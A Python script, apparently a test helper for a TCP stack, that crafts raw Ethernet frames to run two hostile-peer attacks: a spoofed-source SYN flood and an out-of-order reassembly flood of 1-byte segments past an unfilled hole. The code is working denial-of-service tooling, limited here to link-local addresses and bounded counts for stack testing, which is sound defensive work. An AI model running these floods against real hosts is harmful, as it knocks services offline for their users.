#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Hostile TCP peers, as raw Ethernet frames on one interface (AF_PACKET).

  hostile_peer.py synflood IFACE DST_MAC DST_IP PORT COUNT [RATE]
      COUNT SYNs from random spoofed sources in 169.254.0.0/16 (never a
      routable address: the frames stay on the test's own wire), RATE per
      second at most (0: as fast as it goes). Prints how many went out.
  hostile_peer.py ooo IFACE SRC_IP DST_MAC DST_IP PORT CONNS SEGS
      CONNS connections from SRC_IP (an address no host on the wire owns, so
      nothing there answers our SYN-ACK with a RST), each handshaken by hand
      and then sent SEGS 1-byte segments past a hole it never fills: the
      out-of-order reassembly attack. Prints, per connection, whether the
      handshake completed and the highest ACK seen.

Bounded in count and time (every wait has a deadline); IPv4 only.
"""
import os
import random
import select
import socket
import struct
import sys
import time

ETH_P_IP = 0x0800


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def mac_of(iface):
    with open("/sys/class/net/%s/address" % iface) as f:
        return bytes.fromhex(f.read().strip().replace(":", ""))


def frame(src_mac, dst_mac, src_ip, dst_ip, sport, dport, seq, ack, flags,
          payload=b"", win=65535, opts=b""):
    thl = 20 + len(opts)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, (thl // 4) << 4,
                      flags, win, 0, 0) + opts + payload
    pseudo = struct.pack("!4s4sBBH", src_ip, dst_ip, 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp),
                     random.randrange(65536), 0x4000, 64, 6, 0, src_ip, dst_ip)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return dst_mac + src_mac + struct.pack("!H", ETH_P_IP) + ip + tcp


def open_sock(iface):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP))
    s.bind((iface, 0))
    return s


def synflood(iface, dst_mac, dst_ip, port, count, rate):
    s = open_sock(iface)
    src_mac = mac_of(iface)
    opts = struct.pack("!BBH", 2, 4, 1460)
    sent = 0
    t0 = time.monotonic()
    for i in range(count):
        src = bytes([169, 254, random.randrange(1, 255), random.randrange(1, 255)])
        f = frame(src_mac, dst_mac, src, dst_ip, random.randrange(1024, 65535),
                  port, random.getrandbits(32), 0, 0x02, opts=opts)
        try:
            s.send(f)
            sent += 1
        except (BlockingIOError, OSError):
            time.sleep(0.001)
        if rate and i % 64 == 63:
            ahead = (i + 1) / rate - (time.monotonic() - t0)
            if ahead > 0:
                time.sleep(ahead)
    dt = time.monotonic() - t0
    print("synflood: %d SYNs in %.2f s (%.0f/s)" % (sent, dt, sent / dt if dt else 0))


def parse(f, want_src, want_port):
    """(our port, their port, flags, seq, ack) of a TCP frame from
    want_src, else None."""
    if len(f) < 54 or f[12:14] != b"\x08\x00" or f[23] != 6:
        return None
    ihl = (f[14] & 15) * 4
    if f[26:30] != want_src:
        return None
    t = 14 + ihl
    sport, dport, seq, ack, _, flags = struct.unpack("!HHIIBB", f[t:t + 14])
    return dport, sport, flags, seq, ack


def ooo(iface, src_ip, dst_mac, dst_ip, port, conns, segs):
    s = open_sock(iface)
    src_mac = mac_of(iface)
    opts = struct.pack("!BBH", 2, 4, 1460)
    state = {}
    for k in range(conns):
        sp = 33000 + k
        iss = random.getrandbits(32)
        state[sp] = {"iss": iss, "ours": None, "ack": 0}
        s.send(frame(src_mac, dst_mac, src_ip, dst_ip, sp, port, iss, 0, 0x02, opts=opts))
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline and any(v["ours"] is None for v in state.values()):
        r, _, _ = select.select([s], [], [], 0.2)
        if not r:
            continue
        p = parse(s.recv(2048), dst_ip, port)
        if not p or p[0] not in state:
            continue
        dport, sport, flags, seq, ack = p
        st = state[dport]
        if flags & 0x12 == 0x12 and st["ours"] is None:
            st["ours"] = seq
            s.send(frame(src_mac, dst_mac, src_ip, dst_ip, dport, port, st["iss"] + 1,
                         seq + 1, 0x10))
    # 1-byte segments past a one-byte hole at the stream's start.
    for n in range(segs):
        for sp, st in state.items():
            if st["ours"] is None:
                continue
            s.send(frame(src_mac, dst_mac, src_ip, dst_ip, sp, port,
                         st["iss"] + 2 + 2 * n, st["ours"] + 1, 0x18, b"x"))
    end = time.monotonic() + 0.5
    while time.monotonic() < end:
        r, _, _ = select.select([s], [], [], 0.1)
        if r:
            p = parse(s.recv(2048), dst_ip, port)
            if p and p[0] in state:
                state[p[0]]["ack"] = p[4]
    for sp, st in sorted(state.items()):
        print("ooo: port %d handshake %s, ack %s" % (
            sp, "done" if st["ours"] is not None else "FAILED",
            (st["ack"] - st["iss"]) & 0xFFFFFFFF if st["ack"] else "none"))
    if any(v["ours"] is None for v in state.values()):
        sys.exit(1)


def main(argv):
    if len(argv) < 2:
        sys.exit(__doc__)
    mode = argv[1]
    if mode == "synflood" and len(argv) in (7, 8):
        synflood(argv[2], bytes.fromhex(argv[3].replace(":", "")),
                 socket.inet_aton(argv[4]), int(argv[5]), int(argv[6]),
                 float(argv[7]) if len(argv) == 8 else 0)
    elif mode == "ooo" and len(argv) == 9:
        ooo(argv[2], socket.inet_aton(argv[3]), bytes.fromhex(argv[4].replace(":", "")),
            socket.inet_aton(argv[5]), int(argv[6]), int(argv[7]), int(argv[8]))
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main(sys.argv)
